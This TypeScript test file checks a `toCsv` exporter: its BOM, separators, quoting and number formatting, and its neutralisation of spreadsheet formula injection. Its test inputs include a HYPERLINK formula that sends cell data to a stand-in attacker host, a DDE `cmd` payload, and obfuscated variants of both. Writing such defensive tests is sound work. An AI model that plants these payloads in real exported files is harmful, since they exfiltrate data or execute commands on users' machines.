import { fc, test } from "@fast-check/vitest";
import { describe, expect, it } from "vitest";
import { type SpreadsheetTable, toCsv } from "../../src/documents/index.js";

const BOM = "\uFEFF";

/**
 * A small RFC 4180 reader, written for the test (the CLI's own reader would share its mistakes
 * with nothing, but it guesses separators): fields split on `separator`, quoted fields with `""`,
 * records ended by CRLF. Returns the fields as written, with whether each was quoted.
 */
function readCsv(text: string, separator: string): { value: string; quoted: boolean }[][] {
  const records: { value: string; quoted: boolean }[][] = [];
  let record: { value: string; quoted: boolean }[] = [];
  let i = 0;
  while (i < text.length) {
    let value = "";
    let quoted = false;
    if (text[i] === '"') {
      quoted = true;
      i++;
      for (;;) {
        if (i >= text.length) throw new Error("unterminated quote");
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            value += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        value += text[i];
        i++;
      }
    } else {
      while (i < text.length && text[i] !== separator && text[i] !== "\r") value += text[i++];
    }
    record.push({ value, quoted });
    if (text[i] === separator) {
      i++;
      continue;
    }
    if (text.slice(i, i + 2) !== "\r\n") throw new Error(`expected CRLF at ${i}`);
    i += 2;
    records.push(record);
    record = [];
  }
  return records;
}

const table = (rows: SpreadsheetTable["rows"], header = ["A", "B"]): SpreadsheetTable => ({
  header,
  rows,
});

describe("toCsv: a CSV that Excel opens right", () => {
  it("starts with a UTF-8 byte order mark, ends every record with CRLF, the header first", () => {
    const csv = toCsv(table([["Zoë", 1]]), { locale: "nl" });
    expect(csv).toBe(`${BOM}"A";"B"\r\n"Zoë";1\r\n`);
    expect(csv.startsWith(BOM)).toBe(true);
    // The BOM is one character, U+FEFF, written by any UTF-8 encoder as EF BB BF.
    expect([...new TextEncoder().encode(csv).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(toCsv(table([]), { locale: "en", bom: false })).toBe('"A","B"\r\n');
  });

  it("Dutch: `;` between cells and a decimal comma; English: `,` and a decimal point", () => {
    const t = table([
      ["uren", 4.5],
      ["tekst met ; en ,", -0.25],
    ]);
    expect(toCsv(t, { locale: "nl" })).toBe(
      `${BOM}"A";"B"\r\n"uren";4,5\r\n"tekst met ; en ,";-0,25\r\n`,
    );
    expect(toCsv(t, { locale: "en" })).toBe(
      `${BOM}"A","B"\r\n"uren",4.5\r\n"tekst met ; en ,",-0.25\r\n`,
    );
  });

  it("numbers stay numbers: unquoted, negative ones without a prefix, at most 15 significant digits", () => {
    const csv = toCsv(
      table([
        [-2, 0.1 + 0.2],
        [2 / 3, 1234567.125],
        [-0, 1e21],
        [100, 1e-7],
      ]),
      {
        locale: "en",
        bom: false,
      },
    );
    expect(csv.split("\r\n")).toEqual([
      '"A","B"',
      "-2,0.3",
      "0.666666666666667,1234567.125",
      "0,1e+21",
      "100,1e-7",
      "",
    ]);
  });

  it("null and numbers that are not finite are empty cells (as JSON makes them null)", () => {
    const csv = toCsv(
      table([
        [null, Number.NaN],
        [Number.POSITIVE_INFINITY, null],
      ]),
      {
        locale: "nl",
        bom: false,
      },
    );
    expect(csv).toBe('"A";"B"\r\n;\r\n;\r\n');
  });

  it("quotes every text cell and doubles a quote inside it (RFC 4180)", () => {
    const csv = toCsv(
      table([
        ['zei "ja"', "regel 1\nregel 2"],
        ["a;b", "c,d"],
      ]),
      {
        locale: "nl",
        bom: false,
      },
    );
    expect(csv).toBe('"A";"B"\r\n"zei ""ja""";"regel 1\nregel 2"\r\n"a;b";"c,d"\r\n');
    expect(readCsv(csv, ";")[1]?.map((f) => f.value)).toEqual(['zei "ja"', "regel 1\nregel 2"]);
  });

  it("neutralises formula injection (OWASP): =, +, -, @, tab and CR get a leading ' and stay quoted text", () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"klik")',
      "+1",
      "-2+3",
      "@SUM(A1:A9)",
      "\t=1+1",
      "\r=1+1",
      "=cmd|' /C calc'!A0",
      "＝1+1",
    ];
    const csv = toCsv(table(hostile.map((h) => [h, 1])), { locale: "nl", bom: false });
    const records = readCsv(csv, ";").slice(1);
    expect(records.map((r) => r[0])).toEqual(
      hostile.map((h) => ({ value: `'${h}`, quoted: true })),
    );
    // The exact text of the first: the quotes inside doubled, the ' before the =.
    expect(csv.split("\r\n")[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""klik"")";1`);
  });

  it("leaves ordinary text alone: no ' where no formula could start", () => {
    const csv = toCsv(
      table([
        ["Anna de Vries", "1+1"],
        [" x=", "a=b"],
        ["", "'al"],
      ]),
      {
        locale: "en",
        bom: false,
      },
    );
    expect(readCsv(csv, ",").slice(1)).toEqual([
      [
        { value: "Anna de Vries", quoted: true },
        { value: "1+1", quoted: true },
      ],
      [
        { value: " x=", quoted: true },
        { value: "a=b", quoted: true },
      ],
      [
        { value: "", quoted: true },
        { value: "'al", quoted: true },
      ],
    ]);
  });

  it("neutralises a formula behind white space, NUL or a zero width space, and the small forms", () => {
    // An import may trim a cell before it reads it (LibreOffice's "Trim spaces", Google Sheets).
    const cells = [
      " =x",
      "\u00A0=1+1",
      "\n=1+1",
      "\u0000=1+1",
      "\u200B@SUM(A1)",
      "\uFE661+1",
      " \uFE62x",
    ];
    const csv = toCsv(table(cells.map((c) => [c, "1"])), { locale: "en", bom: false });
    expect(
      readCsv(csv, ",")
        .slice(1)
        .map((row) => row[0]?.value),
    ).toEqual(cells.map((c) => `'${c}`));
  });

  it("neutralises the header as well (a table an app built itself)", () => {
    expect(toCsv(table([], ["=1+1", "B"]), { locale: "nl", bom: false })).toBe(`"'=1+1";"B"\r\n`);
  });

  it("refuses a cell that is not a string, a number or null: a programmer error", () => {
    for (const bad of [undefined, true, {}, 1n]) {
      expect(() => toCsv(table([["a", bad as unknown as string]]), { locale: "nl" })).toThrow(
        new TypeError(`table cell [1][1]: a string, a number or null, not ${typeof bad}`),
      );
    }
  });

  it("refuses a value that is not a table with a TypeError that says what a table is", () => {
    for (const bad of [null, undefined, 0, "x", [], {}, { header: [], rows: [5] }]) {
      expect(() => toCsv(bad as never, { locale: "nl" })).toThrow(
        new TypeError("toCsv: table must be { header: cell[]; rows: cell[][] }"),
      );
    }
  });

  it("is frozen and does not change its input", () => {
    expect(Object.isFrozen(toCsv)).toBe(true);
    const t = Object.freeze({
      header: Object.freeze(["A"]),
      rows: Object.freeze([Object.freeze(["=x"])]),
    });
    toCsv(t, { locale: "nl" });
    expect(t.rows[0]).toEqual(["=x"]);
  });
});

const cellArb = fc.oneof(
  fc.string({ unit: "grapheme" }),
  fc.constantFrom("=1+1", "+", "-", "@", "\t", "\r", '"', ";", ",", "\r\n", "\n", "'", "＋1"),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
  fc.constant(null),
);

describe("toCsv: properties", () => {
  test.prop([
    fc.array(fc.array(cellArb, { minLength: 2, maxLength: 2 }), { maxLength: 8 }),
    fc.constantFrom("nl" as const, "en" as const),
  ])(
    "reads back cell for cell: text as written (with ' before a formula start), numbers as numbers, null empty",
    (rows, locale) => {
      const separator = locale === "nl" ? ";" : ",";
      const csv = toCsv(table(rows), { locale });
      expect(csv.startsWith(BOM)).toBe(true);
      const records = readCsv(csv.slice(1), separator);
      expect(records).toHaveLength(rows.length + 1);
      rows.forEach((row, r) => {
        row.forEach((value, c) => {
          const field = records[r + 1]?.[c];
          if (typeof value === "string") {
            const formula = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(value);
            expect(field).toEqual({ value: formula ? `'${value}` : value, quoted: true });
          } else if (value === null) {
            expect(field).toEqual({ value: "", quoted: false });
          } else {
            expect(field?.quoted).toBe(false);
            const read = Number((field?.value ?? "").replace(",", "."));
            expect(read).toBe(Number(value.toPrecision(15)) + 0);
          }
        });
      });
    },
  );

  test.prop([fc.array(fc.string({ unit: "binary" }), { minLength: 1, maxLength: 6 })])(
    "no text cell can start a formula: after the opening quote comes no =, +, -, @, tab or CR",
    (texts) => {
      const csv = toCsv(
        table(
          [texts],
          texts.map((_, i) => `k${i}`),
        ),
        { locale: "nl", bom: false },
      );
      for (const field of readCsv(csv, ";")[1] ?? []) {
        expect(field.quoted).toBe(true);
        expect(field.value).not.toMatch(/^[=+\-@\t\r]/);
      }
    },
  );
});
